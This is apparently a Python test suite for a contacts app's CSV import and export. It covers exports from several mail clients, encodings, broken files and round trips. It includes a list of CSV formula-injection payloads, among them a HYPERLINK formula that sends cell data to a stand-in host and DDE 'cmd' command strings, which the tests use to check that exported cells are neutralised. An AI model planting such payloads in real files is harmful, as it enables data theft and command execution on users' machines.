"""CSV in and out: Google, Outlook and Thunderbird exports in every encoding, broken
files, rows left out and why, formula injection, and the round trip."""

from __future__ import annotations

import codecs
import csv
import io
from pathlib import Path

import pytest

from hushnote.core import (
    ContactMethod,
    MethodKind,
    NewContact,
    ParsedContacts,
    SkippedRecord,
    Vault,
    parse_csv,
    write_csv,
)
from hushnote.errors import ImportFormatError

DATA = Path(__file__).parents[2] / "data" / "contacts"
BOMS = {
    "utf-16-le": codecs.BOM_UTF16_LE,
    "utf-16-be": codecs.BOM_UTF16_BE,
    "utf-32-le": codecs.BOM_UTF32_LE,
    "utf-32-be": codecs.BOM_UTF32_BE,
}
PHONE, EMAIL = MethodKind.PHONE, MethodKind.EMAIL


def load(name: str) -> list[NewContact]:
    parsed = parse_csv((DATA / name).read_bytes())
    assert parsed.skipped == []
    return parsed.contacts


def values(contact: NewContact, kind: MethodKind) -> list[str]:
    return [m.value for m in contact.methods if m.kind is kind]


def test_google_export() -> None:
    amina, only_email, diego = load("google.csv")
    assert amina.display_name == "Amina Yusuf"
    assert values(amina, PHONE) == ["+1 555 0101", "+1 555 0102", "+1 555 0103"]
    assert [m.label for m in amina.methods if m.kind is PHONE] == ["Mobile", "Mobile", "Work"]
    assert values(amina, EMAIL) == ["amina@example.org"]
    assert (amina.organization, amina.role) == ("Tenants Union", "Driver")
    assert amina.notes == "Has a van.\nAvailable weekends."
    assert amina.tags == ("Drivers",)
    assert only_email.display_name == "only-email@example.org"
    assert diego.display_name == "Diego Ramírez"


def test_outlook_export() -> None:
    chen, fatima = load("outlook.csv")
    assert chen.display_name == "Chen Wei"
    assert sorted((m.label, m.value) for m in chen.methods if m.kind is PHONE) == [
        ("cell", "+1 555 0111"),
        ("work", "+1 555 0110"),
    ]
    assert values(chen, EMAIL) == ["chen.wei@legalaid.example"]
    assert chen.tags == ("Legal", "Interpreters")
    assert chen.notes == "Speaks Mandarin and Cantonese"
    assert values(fatima, PHONE) == ["+1 555 0120"]


def test_outlook_export_in_windows_1252() -> None:
    jurgen, zoe = load("outlook-windows-1252.csv")
    assert jurgen.display_name == "Jürgen Müller"
    assert (jurgen.organization, jurgen.role) == (
        "Straßenmedizin e.V.",
        "Fahrer \N{EN DASH} Nachtschicht",
    )
    assert jurgen.notes == "Hat einen Transporter \N{EN DASH} „Sprinter“.\n20 € pro Fahrt."
    assert zoe.display_name == "Zoë d\N{RIGHT SINGLE QUOTATION MARK}Arcy"
    assert zoe.tags == ("Médecins",)


def test_thunderbird_export() -> None:
    (lena,) = load("thunderbird.csv")
    assert lena.display_name == "Lena Berg"
    assert sorted(values(lena, PHONE)) == ["+46 70 123 45 67", "+46 8 123 456"]
    assert values(lena, EMAIL) == ["lena@example.se"]
    assert (lena.organization, lena.role) == ("Medics Sweden", "Medic")


def test_utf16_and_blank_rows() -> None:
    (jose,) = load("utf16.csv")
    assert jose.display_name == "José Martínez"
    assert [c.display_name for c in load("blank-rows-ok.csv")] == ["Ana"]


@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be", "utf-32-le", "utf-32-be"])
@pytest.mark.parametrize("bom", [True, False], ids=["bom", "no-bom"])
def test_utf16_and_utf32_with_or_without_a_bom(encoding: str, bom: bool) -> None:
    text = (DATA / "google.csv").read_text(encoding="utf-8")
    data = text.encode(encoding)
    if bom:
        data = BOMS[encoding] + data
    assert parse_csv(data).contacts == load("google.csv")


@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be", "utf-32-le", "utf-32-be"])
def test_utf16_without_a_bom_is_found_when_the_text_starts_with_chinese(encoding: str) -> None:
    data = "电话,Name,Phone\r\n,王小明,+86 138 0013 8000\r\n".encode(encoding)
    (wang,) = parse_csv(data).contacts
    assert (wang.display_name, values(wang, PHONE)) == ("王小明", ["+86 138 0013 8000"])


def test_a_file_mixing_utf8_and_windows_1252_keeps_both() -> None:
    data = "Name,Notes\r\nJosé,Café\r\n".encode() + "Zoë,20 €\r\n".encode("cp1252")
    parsed = parse_csv(data)
    assert [(c.display_name, c.notes) for c in parsed.contacts] == [
        ("José", "Café"),
        ("Zoë", "20 €"),
    ]


def test_a_row_that_cannot_be_used_is_skipped_and_the_rest_imported() -> None:
    data = (
        b"Name,Phone\r\n"
        b"Ana,1\r\n"
        b"Nul\x00name,2\r\n"
        b"Too,many,fields\r\n"
        b'"Multi\r\nline",3\r\n'
        b"Ctl\x1bname,4\r\n" + b"Long " + b"x" * 600 + b",5\r\n"
        b",\r\n"  # blank: passed over, not reported
        b",6\r\n"  # the number is the name then
        b"Eve,7\r\n"
    )
    parsed = parse_csv(data)
    assert isinstance(parsed, ParsedContacts)
    assert [c.display_name for c in parsed.contacts] == ["Ana", "Multi line", "6", "Eve"]
    assert parsed.skipped == [
        SkippedRecord(line=3, reason="control-character", value_line=3),
        SkippedRecord(line=4, reason="too-many-fields", value_line=4),
        SkippedRecord(line=7, reason="control-character", value_line=7),
        SkippedRecord(line=8, reason="too-long", value_line=8),
    ]


@pytest.mark.parametrize(
    ("name", "line", "reason"),
    [
        ("broken-quote.csv", 3, "csv-syntax"),
        ("no-name-column.csv", 1, "no-name-column"),
        ("empty.csv", 1, "no-header"),
    ],
)
def test_a_file_that_cannot_be_read_is_refused_naming_the_line(
    name: str, line: int, reason: str
) -> None:
    with pytest.raises(ImportFormatError) as caught:
        parse_csv((DATA / "broken" / name).read_bytes())
    assert caught.value.context == {"line": line, "reason": reason}


def test_extra_fields_cost_that_row_only() -> None:
    parsed = parse_csv((DATA / "broken" / "extra-fields.csv").read_bytes())
    assert [c.display_name for c in parsed.contacts] == ["Good"]
    assert parsed.skipped == [SkippedRecord(3, "too-many-fields", 3)]


@pytest.mark.parametrize(
    ("data", "line", "reason"),
    [
        (b"\x00\x01\x02\x03\x04garbage\r\nName\r\n", 1, "binary"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", 1, "no-name-column"),
        (b"Name," + b"Col,".join([b""] * 2000) + b"\r\nAna\r\n", 1, "too-many-columns"),
        (b'Name\r\n"' + b"x" * 200_000 + b'"\r\n', 2, "row-too-long"),
        (b'Name\r\n"unterminated\r\n' + b"more\r\n" * 100_000, 2, "row-too-long"),
    ],
    ids=["binary", "png", "wide-header", "huge-cell", "unterminated-quote"],
)
def test_limits_refuse_the_file(data: bytes, line: int, reason: str) -> None:
    with pytest.raises(ImportFormatError) as caught:
        parse_csv(data)
    assert caught.value.context == {"line": line, "reason": reason}


def test_a_utf32_bom_is_not_mistaken_for_a_missing_name_column() -> None:
    data = codecs.BOM_UTF32_LE + "Name,Phone\r\nAna,1\r\n".encode("utf-32-le")
    assert [c.display_name for c in parse_csv(data).contacts] == ["Ana"]


DANGEROUS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "-",
    "'=already quoted by someone",
    "''=two quotes",
]


def test_written_cells_cannot_start_a_formula(open_vault: Vault) -> None:
    for name in DANGEROUS:
        open_vault.contacts.create(
            NewContact(name, (ContactMethod(PHONE, "+1 555 0100", name[:20]),), notes=name)
        )
    rows = list(csv.reader(io.StringIO(write_csv(open_vault.contacts.all_contacts()).decode(
        "utf-8-sig"))))  # fmt: skip
    cells = [cell for row in rows[1:] for cell in row if cell]
    assert cells
    for cell in cells:
        assert cell[0] not in "=+-@\t\r" or is_phone_number(cell), cell
    assert "'=1+1" in cells and "'-" in cells and "''=already quoted by someone" in cells


def is_phone_number(cell: str) -> bool:
    return set(cell) <= set("0123456789 +-().") and sum(c.isdigit() for c in cell) >= 3


@pytest.mark.parametrize(
    "number", ["+1 555 0100", "-555-0100", "+44 (0)20 7946 0958", "+1.555.0100"]
)
def test_phone_numbers_are_written_as_they_are(open_vault: Vault, number: str) -> None:
    open_vault.contacts.create(NewContact("Rosa", (ContactMethod(PHONE, number),)))
    written = write_csv(open_vault.contacts.all_contacts()).decode("utf-8-sig")
    assert f",{number}" in written and f"'{number}" not in written


def test_neutralised_cells_read_back_as_they_were(open_vault: Vault) -> None:
    for name in DANGEROUS:
        open_vault.contacts.create(
            NewContact(name, (ContactMethod(EMAIL, "x@example.org", name[:30]),), notes=name)
        )
    parsed = parse_csv(write_csv(open_vault.contacts.all_contacts()))
    assert parsed.skipped == []
    assert sorted((c.display_name, c.notes, c.methods[0].label) for c in parsed.contacts) == sorted(
        (name, name, name[:30]) for name in DANGEROUS
    )


def test_a_quote_other_programs_put_before_a_number_is_dropped() -> None:
    parsed = parse_csv(b"Name,Phone\r\nRosa,'+1 555 0100\r\nO'Brien,'Tis\r\n")
    assert [(c.display_name, values(c, PHONE)) for c in parsed.contacts] == [
        ("Rosa", ["+1 555 0100"]),
        ("O'Brien", ["'Tis"]),
    ]


def test_round_trip_gives_the_same_contacts(open_vault: Vault) -> None:
    originals = [
        NewContact(
            'Rosa "Ro" Delgado, MD',
            (
                ContactMethod(PHONE, "+1 555-0100", "Cell"),
                ContactMethod(PHONE, "030 1", "Work"),
                ContactMethod(EMAIL, "rosa@example.org", "Home"),
                ContactMethod(MethodKind.SIGNAL, "@rosa.01", "private"),
                ContactMethod(MethodKind.OTHER, "xmpp:rosa@j.example"),
            ),
            organization="Street Medics",
            role="medic",
            notes="Two\nlines, with, commas",
            tags=("medic", "east side"),
        ),
        NewContact("王小明", (ContactMethod(EMAIL, "w@example.cn"),)),
        NewContact("=Equals Sign", (ContactMethod(MethodKind.TELEGRAM, "@handle"),), role="-"),
    ]
    for contact in originals:
        open_vault.contacts.create(contact)
    parsed = parse_csv(write_csv(open_vault.contacts.all_contacts()))
    assert parsed.skipped == []
    by_name = {c.display_name: c for c in parsed.contacts}
    for original in originals:
        again = by_name[original.display_name]
        assert sorted(again.methods, key=str) == sorted(original.cleaned().methods, key=str)
        assert (again.organization, again.role, again.notes, sorted(again.tags)) == (
            original.organization,
            original.role,
            original.notes,
            sorted(original.tags),
        )


def test_importing_a_file_twice_adds_nothing_the_second_time(open_vault: Vault) -> None:
    first = open_vault.contacts.import_contacts(load("google.csv"))
    second = open_vault.contacts.import_contacts(load("google.csv"))
    assert len(first.added) == 3
    assert second.added == ()
    assert len(second.duplicates) == 3
